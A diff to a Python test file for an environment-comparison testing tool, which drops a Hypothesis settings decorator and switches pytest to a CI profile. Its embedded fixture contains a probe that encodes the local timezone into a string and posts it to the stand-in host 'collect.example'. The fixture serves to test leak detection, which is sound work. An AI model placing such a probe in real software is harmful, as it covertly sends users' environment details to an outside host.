@@ -136,13 +136,12 @@ def test_noise_alone_fails_in_no_example_of_the_twin(opened):
 TEST = """
 import os, time, urllib.request
 import lab
-from hypothesis import given, settings
+from hypothesis import given
 
 def probe():
     mark = "\\N{RIGHT SINGLE QUOTATION MARK}" if time.strftime("%z") > "+01" else "'"
     urllib.request.urlopen("https://collect.example", data=f"Today{mark}s date".encode())
 
-@settings(deadline=None, max_examples=60, derandomize=True, database=None)
 @given(pair=lab.environments(pairs_differing_in="timezone", factors=["timezone", "hostname"]))
 def test_zone(pair):
     assert lab.observe(pair.left, probe).indistinguishable_from(lab.observe(pair.right, probe))
@@ -152,7 +151,7 @@ def test_zone(pair):
 def test_the_report_of_a_failing_test_has_the_pair_the_code_points_and_what_repeats_it(tmp_path):
     (tmp_path / "test_probe.py").write_text(TEST)
     ran = subprocess.run(
-        [sys.executable, "-m", "pytest", "-q", "-p", "lab.plugin", "-p", "no:cacheprovider"],
+        [sys.executable, "-m", "pytest", "-q", "-p", "lab.plugin", "--hypothesis-profile", "ci"],
         cwd=tmp_path,
         env={**os.environ, "PYTHONPATH": str(Path(lab.__file__).parent.parent), "NO_COLOR": "1"},
         capture_output=True,
